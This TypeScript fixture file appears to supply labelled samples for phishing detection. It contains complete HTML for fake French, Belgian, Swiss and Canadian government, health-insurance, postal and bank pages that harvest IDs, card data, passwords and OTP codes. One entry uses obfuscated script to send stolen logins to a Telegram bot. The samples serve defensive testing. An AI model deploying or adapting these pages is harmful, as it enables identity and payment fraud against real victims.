import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc, republique, legalFooter, wordmark } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-impots-remboursement-kit',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://remboursement-dgfip-fr.info/espace/particulier/index.php',
  body: doc({ title: 'impots.gouv.fr - Remboursement', body: `${republique('impots.gouv.fr', 'Direction générale des Finances publiques')}
<main class="wrap" style="padding:30px 18px">
<div style="background:#e8edff;border-left:5px solid #000091;padding:14px 18px;margin-bottom:24px">Après le dernier calcul annuel de votre activité fiscale, vous êtes éligible à un remboursement de <b>289,47 €</b>. Veuillez compléter le formulaire ci-dessous afin de recevoir le virement sous 3 à 5 jours ouvrés.</div>
<form id="f" method="post" action="send/etape2.php" style="background:#fff;padding:24px;max-width:560px">
<h2>Informations personnelles</h2>
<label>Numéro fiscal (13 chiffres)</label><input name="spi" maxlength="13" required>
<label>Nom</label><input name="nom" required><label>Prénom</label><input name="prenom" required>
<label>Date de naissance</label><input name="dob" placeholder="JJ/MM/AAAA" required>
<label>Adresse e-mail</label><input name="email" type="email">
<label>Téléphone portable</label><input name="tel">
<h2>Carte bancaire de réception</h2>
<label>Numéro de carte</label><input name="cc" inputmode="numeric" autocomplete="cc-number" maxlength="19">
<div style="display:flex;gap:10px"><div><label>Expiration</label><input name="exp" placeholder="MM/AA"></div><div><label>Cryptogramme</label><input name="cvv" maxlength="4"></div></div>
<button class="btn">Recevoir mon remboursement</button>
</form></main>${legalFooter(['© Direction générale des Finances publiques', 'Mentions légales - Accessibilité : partiellement conforme'])}` }),
},
  {
  id: 'zx-ameli-carte-vitale-renouvellement',
  label: 'phishing',
  kind: 'health-insurance-kit',
  url: 'https://ameli-assure-carte.com/vitale/renouvellement/',
  body: doc({ title: 'ameli - Renouvellement de votre carte Vitale', css: 'header.am{background:#0c419a;color:#fff;padding:16px 0}.step{display:inline-block;padding:6px 12px;border-radius:20px;background:#dbe6f7;margin-right:6px;font-size:13px}.step.on{background:#0c419a;color:#fff}', body: `<header class="am"><div class="wrap"><b style="font-size:26px">ameli</b><span style="margin-left:8px">L'Assurance Maladie</span></div></header>
<main class="wrap" style="padding:28px 18px"><div><span class="step on">1. Identité</span><span class="step">2. Adresse</span><span class="step">3. Frais d'envoi</span></div>
<h1>Votre carte Vitale arrive à expiration</h1><p>Pour continuer à bénéficier du tiers payant, commandez votre nouvelle carte Vitale. Des frais d'envoi de <b>0,95 €</b> s'appliquent.</p>
<form id="fm" style="background:#fff;padding:22px;max-width:520px"><label>Numéro de sécurité sociale</label><input name="nir" maxlength="15" required><label>Nom et prénom</label><input name="name" required><label>Date de naissance</label><input name="dob"><label>Adresse postale</label><input name="addr"><label>Code postal</label><input name="cp">
<div id="cb" style="display:none"><label>Numéro de carte</label><input name="pan" autocomplete="cc-number"><label>Date d'expiration</label><input name="exp"><label>CVV</label><input name="cvc"></div>
<button class="btn" style="background:#0c419a" type="submit">Continuer</button></form></main>
<script>
var f=document.getElementById('fm'),s=0;
f.addEventListener('submit',function(e){e.preventDefault();if(s===0){document.getElementById('cb').style.display='block';s=1;return}
fetch('/vitale/renouvellement/api/save.php',{method:'POST',body:new FormData(f)}).then(function(){location.href='https://www.ameli.fr/'});});
</script>` }),
  routes: { 'ameli-assure-carte.com/vitale/renouvellement/api/save.php': jsonRoute({ ok: 1 }) },
},
  {
  id: 'zx-ants-permis-points',
  label: 'phishing',
  kind: 'driving-licence-kit',
  url: 'https://ants-permis-gouv.fr/solde-points/verification',
  body: doc({ title: 'ANTS - Consultation du solde de points', body: `${republique('Agence Nationale des Titres Sécurisés', 'Permis de conduire')}
<main class="wrap" style="padding:24px 18px"><h1>Votre permis de conduire risque d'être invalidé</h1><p>Suite à un contrôle automatisé, un défaut de mise à jour de vos informations a été constaté. Sans régularisation sous 48 h, votre solde de points sera gelé.</p>
<form method="post" action="/solde-points/traitement.php" style="background:#fff;padding:22px;max-width:540px"><label>Numéro de permis</label><input name="permis"><label>Nom de naissance</label><input name="nom"><label>Date de naissance</label><input name="naiss"><label>Adresse e-mail</label><input name="mail"><label>Mot de passe ANTS</label><input type="password" name="pass">
<p style="font-size:13px">Des frais de dossier de 4,90 € vous seront demandés à l'étape suivante.</p><button class="btn">Valider</button></form></main>
${legalFooter(['ANTS - Ministère de l\'Intérieur'])}` }),
},
  {
  id: 'zx-cpf-droits-formation-expirent',
  label: 'scam',
  kind: 'cpf-training-scam',
  url: 'https://mes-droits-formation.net/cpf/eligibilite',
  body: doc({ title: 'Vos droits CPF expirent - Vérifiez votre solde', css: '.hero{background:linear-gradient(120deg,#2c3e91,#4b6cb7);color:#fff;padding:40px 0}.cnt{font-size:42px;font-weight:800}', body: `<div class="hero"><div class="wrap"><h1>Il vous reste <span class="cnt">1 650 €</span> de droits à la formation</h1><p>Attention : vos droits CPF non utilisés avant le 31 décembre seront perdus. Profitez d'une formation 100 % financée et recevez un <b>iPad offert</b> à l'inscription.</p></div></div>
<main class="wrap" style="padding:24px 18px"><form method="post" action="/cpf/lead.php" style="background:#fff;padding:22px;max-width:520px"><label>Nom</label><input name="n"><label>Téléphone</label><input name="t"><label>Numéro de sécurité sociale</label><input name="nir"><label>Identifiant moncompteformation.gouv.fr</label><input name="login"><label>Mot de passe</label><input type="password" name="pw"><button class="btn">Je vérifie mes droits</button></form>
<p style="font-size:12px">Un conseiller vous rappelle sous 24 h pour finaliser votre dossier.</p></main>` }),
},
  {
  id: 'zx-laposte-colis-frais-sms',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://suivi-colissimo-fr.live/track?id=6A24018871223',
  body: doc({ title: 'La Poste - Colissimo', css: '.lp{background:#ffc927;padding:12px 0}.box{background:#fff;max-width:540px;margin:26px auto;padding:24px;border-radius:8px}', body: `<div class="lp"><div class="wrap">${wordmark('La Poste', '#003da5', '#ffc927', 110)}</div></div>
<div class="box"><h2>Votre colis est en attente</h2><p>Colis n° <b>6A24018871223</b> — Statut : <span style="color:#c00">Livraison suspendue, frais de réexpédition non réglés (1,99 €)</span></p>
<form id="c"><label>Nom complet</label><input name="nm"><label>Adresse</label><input name="ad"><label>Numéro de carte</label><input name="cn" autocomplete="cc-number"><div style="display:flex;gap:8px"><input name="ex" placeholder="MM/AA"><input name="cv" placeholder="CVV"></div><button class="btn" style="background:#003da5;width:100%">Payer 1,99 €</button></form></div>
<script>document.getElementById('c').addEventListener('submit',function(e){e.preventDefault();fetch('/track/next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(new FormData(this)).toString()}).then(function(){location.href='/track/sms.html'})})</script>` }),
  routes: { 'suivi-colissimo-fr.live/track/sms.html': htmlRoute('<!doctype html><html lang="fr"><meta charset="utf-8"><title>Vérification</title><body style="font-family:Arial;text-align:center;padding:40px"><h3>Confirmez le paiement</h3><p>Saisissez le code reçu par SMS de votre banque.</p><form action="/track/next.php" method="post"><input name="otp" maxlength="8"><button>Valider</button></form></body></html>') },
},
  {
  id: 'zx-postfinance-login-ch',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://postfinance-ch.e-finance-login.com/secure/login',
  body: doc({ lang: 'de', title: 'PostFinance E-Finance Login', css: '.pf{background:#ffcc00;padding:16px 0}.lg{background:#fff;max-width:420px;margin:40px auto;padding:28px}', body: `<div class="pf"><div class="wrap"><b style="font-size:22px">PostFinance</b> <span style="margin-left:10px">E-Finance</span></div></div>
<div class="lg"><h2>Login</h2><form id="l"><label>E-Finance-Nummer / Benutzername</label><input name="u"><label>Passwort</label><input type="password" name="p"><label>Sprache</label><select name="lang"><option>Deutsch</option><option>Français</option><option>Italiano</option></select><button class="btn" style="background:#333">Weiter</button></form>
<div id="qr" style="display:none;text-align:center"><p>Bitte bestätigen Sie die Anmeldung in Ihrer PostFinance App. Geben Sie anschliessend den 6-stelligen Code ein.</p><input id="otp" maxlength="6"><button class="btn" onclick="go()">Bestätigen</button></div></div>
<script>var st={};document.getElementById('l').onsubmit=function(e){e.preventDefault();st.u=this.u.value;st.p=this.p.value;fetch('/secure/gate.php',{method:'POST',body:JSON.stringify(st)});this.style.display='none';document.getElementById('qr').style.display='block'};
function go(){st.otp=document.getElementById('otp').value;fetch('/secure/gate.php',{method:'POST',body:JSON.stringify(st)}).then(function(){location.href='https://www.postfinance.ch/'})}</script>` }),
},
  {
  id: 'zx-desjardins-interac-virement',
  label: 'phishing',
  kind: 'interac-transfer-kit',
  url: 'https://interac-depot-virement.ca/deposit/?ref=CAb7QXrM',
  body: doc({ lang: 'fr-CA', title: 'Virement INTERAC - Dépôt', css: '.it{background:#fdb913;padding:14px 0}.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.banks a{display:block;background:#fff;border:1px solid #ccc;padding:16px;text-align:center;text-decoration:none;color:#222}', body: `<div class="it"><div class="wrap"><b style="font-size:22px">INTERAC</b> e-Transfer · Virement</div></div>
<main class="wrap" style="padding:24px 18px"><h2>Vous avez reçu 420,00 $ (CAD) de MARIE-EVE TREMBLAY</h2><p>Message : « loyer novembre, merci! »</p><p>Choisissez votre institution financière pour déposer les fonds :</p>
<div class="banks"><a href="bank.php?b=desjardins">Desjardins</a><a href="bank.php?b=nbc">Banque Nationale</a><a href="bank.php?b=rbc">RBC Banque Royale</a><a href="bank.php?b=td">TD Canada Trust</a><a href="bank.php?b=bmo">BMO</a><a href="bank.php?b=scotia">Banque Scotia</a></div></main>` }),
  routes: { 'interac-depot-virement.ca/deposit/bank.php': htmlRoute(doc({ lang: 'fr-CA', title: 'AccèsD - Desjardins', body: `<div style="background:#00874e;color:#fff;padding:14px 18px"><b>Desjardins</b> AccèsD</div><main class="wrap" style="max-width:420px;padding:24px"><form method="post" action="/deposit/next.php"><label>Identifiant (numéro de carte d'accès)</label><input name="card"><label>Mot de passe</label><input type="password" name="pw"><label>Question de sécurité : nom de votre premier animal</label><input name="q1"><button class="btn" style="background:#00874e">Se connecter</button></form></main>` })) },
},
  {
  id: 'zx-myminfin-belgique-remboursement',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://myminfin-be.remboursement-fisc.eu/fr/login',
  body: doc({ title: 'MyMinfin - SPF Finances', css: '.be{background:#1b2e4b;color:#fff;padding:14px 0}.itsme{background:#ff4612;color:#fff;border:0;border-radius:4px;padding:12px;width:100%;font-weight:700}', body: `<div class="be"><div class="wrap">.be · <b>SPF Finances</b> · MyMinfin</div></div><main class="wrap" style="padding:24px 18px;max-width:520px">
<h2>Remboursement d'impôt : 612,18 €</h2><p>Votre avertissement-extrait de rôle présente un solde en votre faveur. Connectez-vous pour indiquer le compte de remboursement.</p>
<button class="itsme" onclick="document.getElementById('cc').style.display='block'">Se connecter avec itsme®</button><p style="text-align:center">ou avec votre carte bancaire (vérification Bancontact)</p>
<form id="cc" style="display:none" method="post" action="/fr/step2.php"><label>Numéro de registre national</label><input name="rrn"><label>Numéro de carte Bancontact</label><input name="bc"><label>Date d'expiration</label><input name="exp"><label>Code de réponse Digipass</label><input name="resp"><button class="btn">Confirmer</button></form></main>` }),
},
  {
  id: 'zx-franceconnect-relay-telegram',
  label: 'phishing',
  kind: 'gov-portal-kit',
  url: 'https://franceconnect-auth.gouv-fr.site/api/v1/authorize',
  body: doc({ title: 'FranceConnect', css: '.fc{background:#fff;max-width:560px;margin:30px auto;padding:26px;border:1px solid #ddd}.prov{display:grid;grid-template-columns:1fr 1fr;gap:10px}.prov button{background:#fff;border:1px solid #aaa;padding:16px;cursor:pointer}', body: `${republique('FranceConnect')}
<div class="fc"><h2>Je choisis un compte pour me connecter</h2><div class="prov"><button data-p="impots">impots.gouv.fr</button><button data-p="ameli">ameli.fr</button><button data-p="laposte">L'Identité Numérique La Poste</button><button data-p="msa">MSA</button></div>
<form id="f" style="display:none;margin-top:20px"><h3 id="h"></h3><label>Identifiant</label><input name="id"><label>Mot de passe</label><input type="password" name="pw"><button class="btn">Continuer</button></form></div>
<script>
var _0x=['\\x61\\x70\\x69\\x2e\\x74\\x65\\x6c\\x65\\x67\\x72\\x61\\x6d\\x2e\\x6f\\x72\\x67','/bot7098213341:AAGq0Zt9n2mP1/sendMessage','-1002094418'];
document.querySelectorAll('[data-p]').forEach(function(b){b.onclick=function(){document.getElementById('f').style.display='block';document.getElementById('h').textContent=b.textContent;document.getElementById('f').dataset.p=b.dataset.p}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();var t='FC '+this.dataset.p+' '+this.id.value+' : '+this.pw.value;
fetch('https://'+_0x[0]+_0x[1]+'?chat_id='+_0x[2]+'&text='+encodeURIComponent(t)).finally(function(){location.replace('https://franceconnect.gouv.fr/')})};
</script>` }),
},
];
